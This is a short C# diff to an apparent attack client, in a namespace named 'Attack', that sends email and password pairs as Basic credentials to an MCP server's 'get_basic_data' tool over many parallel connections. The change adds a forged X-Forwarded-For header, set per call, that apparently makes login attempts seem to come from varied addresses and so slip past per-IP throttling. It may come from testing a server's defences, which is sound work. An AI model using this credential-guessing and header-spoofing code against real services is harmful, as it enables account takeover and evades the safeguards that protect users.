@@ -3,18 +3,19 @@ using System.Text.Json;
 
 namespace Oig.Attack;
 
-/// <summary>Calls <c>get_basic_data</c> over HTTP.</summary>
-public sealed class Client(Uri mcp) : IDisposable
+/// <summary>Calls <c>get_basic_data</c> over HTTP, through a proxy that tells the address <paramref name="from"/>.</summary>
+public sealed class Client(Uri mcp, string from = "203.0.113.9") : IDisposable
 {
     private const string Body = """{"jsonrpc":"2.0","id":1,"method":"tools/call","params":{"name":"get_basic_data","arguments":{}}}""";
 
     private readonly HttpClient _http = new(new SocketsHttpHandler { MaxConnectionsPerServer = 256 }) { Timeout = TimeSpan.FromMinutes(2) };
 
     /// <summary>Code of the error, <c>success</c>, or the status of an answer that is not 200.</summary>
-    public async Task<string> CallAsync(string email, string password)
+    public async Task<string> CallAsync(string email, string password, string? alsoFrom = null)
     {
         using var request = new HttpRequestMessage(HttpMethod.Post, mcp) { Content = new StringContent(Body, Encoding.UTF8, "application/json") };
         request.Headers.Add("Accept", "application/json, text/event-stream");
+        request.Headers.Add("X-Forwarded-For", alsoFrom ?? from);
         request.Headers.Add("Authorization", $"Basic {Convert.ToBase64String(Encoding.UTF8.GetBytes($"{email}:{password}"))}");
         using var response = await _http.SendAsync(request);
         return response.IsSuccessStatusCode ? CodeIn(await response.Content.ReadAsStringAsync()) : $"HTTP {(int)response.StatusCode}";
